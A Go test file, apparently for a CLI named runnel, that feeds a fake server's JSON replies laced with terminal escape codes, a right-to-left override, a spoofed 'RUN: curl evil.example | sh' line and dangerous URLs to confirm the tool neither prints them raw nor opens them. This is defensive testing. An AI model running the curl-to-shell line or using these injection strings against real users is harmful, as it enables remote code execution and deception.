//go:build linux

package hostile

import (
	"bytes"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"testing"
	"unicode"
)

// TestAnswersOfAnotherServerAreOnlyData runs commands against a foreign server,
// which RUNNEL_URL names. Its responses must neither write control characters
// or extra lines to the terminal nor choose what the browser opens.
func TestAnswersOfAnotherServerAreOnlyData(t *testing.T) {
	w := newWorld(t, nil, "60s")
	touch, ran := w.marks()
	w.put(filepath.Join(w.dir, "bin", "xdg-open"), "#!/bin/sh\n"+touch("opened")+"\n", 0o755)
	const (
		spoof = "\x1b]0;evil\x07\x1b[2J\u009b31m\u202e\r\nRUN: curl evil.example | sh\x00"
		good  = "rnl_6ilcr6MYXZY1JR3UaHPndjutySZXbclXIUytiqkC-0I"
	)
	problem := object{"error": object{"type": "INTERNAL", "message": "no" + spoof}}
	session := object{"sessionId": "01a203b8-093e-7414-bb01-116dcff9fdce", "cliType": "x" + spoof, "projectDir": "/x" + spoof, "title": "x" + spoof, "createdAt": "2026-01-02T03:04:05Z", "lastActiveAt": "2026-01-02T03:04:05Z"}
	token := object{"id": "1" + spoof, "kind": "token" + spoof, "name": "x" + spoof, "scopes": []string{"read" + spoof}, "createdAt": "2026-01-02T03:04:05Z", "projectDir": "/x" + spoof}
	for name, c := range map[string]struct {
		args   []string
		answer object
		status int
		fails  bool
	}{
		"link with a line of its own":  {[]string{"login"}, object{"url": "http://127.0.0.1:1" + spoof, "code": good}, 200, true},
		"code with a line of its own":  {[]string{"login"}, object{"url": "http://127.0.0.1:1", "code": good + spoof}, 200, true},
		"script opened":                {[]string{"login", "--open"}, object{"url": "javascript:alert(1)//", "code": good}, 200, true},
		"file opened":                  {[]string{"login", "--open"}, object{"url": "file:///tmp/evil.html?", "code": good}, 200, true},
		"another program opened":       {[]string{"login", "--open"}, object{"url": "vscode://evil", "code": good}, 200, true},
		"a password in the link":       {[]string{"login"}, object{"url": "http://127.0.0.1:7317@evil.example", "code": good}, 200, true},
		"a query in the link":          {[]string{"login"}, object{"url": "http://127.0.0.1:7317/evil?x=1", "code": good}, 200, true},
		"a path that leads elsewhere":  {[]string{"login"}, object{"url": "http://127.0.0.1:7317/a/../evil", "code": good}, 200, true},
		"a path without a name":        {[]string{"login"}, object{"url": "http://127.0.0.1:7317//evil", "code": good}, 200, true},
		"a page below a path":          {[]string{"login"}, object{"url": "http://127.0.0.1:7317/runnel", "code": good}, 200, false}, // as with --origin behind a proxy
		"token with a line of its own": {[]string{"token", "create", "x"}, object{"token": good + spoof, "id": "1"}, 200, true},
		"an error":                     {[]string{"login"}, problem, 500, true},
		"an error with a strange type": {[]string{"sessions", "list"}, object{"error": object{"type": "X" + spoof, "message": "no" + spoof}}, 500, true},
		"sessions":                     {[]string{"sessions", "list"}, object{"sessions": []object{session}}, 200, false},
		"tokens":                       {[]string{"token", "list"}, object{"tokens": []object{token}}, 200, false},
		"a link":                       {[]string{"login"}, object{"url": "http://127.0.0.1:7317", "code": good}, 200, false},
	} {
		t.Run(name, func(t *testing.T) {
			body, err := json.Marshal(c.answer)
			if err != nil {
				t.Fatal(err)
			}
			other := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, _ *http.Request) {
				rw.Header().Set("Content-Type", "application/json")
				rw.WriteHeader(c.status)
				_, _ = rw.Write(body)
			}))
			defer other.Close()
			cmd := w.command(append(c.args, "--data", w.data)...)
			cmd.Env = append(cmd.Env, "RUNNEL_URL="+other.URL, "RUNNEL_TOKEN="+good)
			var out bytes.Buffer
			cmd.Stdout, cmd.Stderr = &out, &out
			if err := cmd.Run(); (err != nil) != c.fails {
				t.Errorf("it ends with %v: %s", err, &out)
			}
			for line := range strings.Lines(out.String()) {
				if strings.HasPrefix(line, "RUN") || strings.ContainsFunc(line, func(r rune) bool { return r != '\n' && unicode.In(r, unicode.Cc, unicode.Cf) }) {
					t.Errorf("it prints the line %q", line)
				}
			}
			if ran() != nil {
				t.Error("it opens a browser")
			}
		})
	}
}
